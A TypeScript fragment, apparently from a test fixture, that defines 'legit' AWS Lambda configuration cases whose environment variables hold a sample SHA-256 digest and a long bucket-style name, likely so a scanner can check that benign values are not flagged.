    ["a 64-hex SHA-256 digest and a long kit name", "3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"],
  ] as const).map(([name, value]) =>
    L("legit", `Lambda env: ${name}`, "data-eu", { add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { VALUE: value, NAME: "rk-eu-lake-raw-222222222222_compacted" } } }) }),
  ),
];
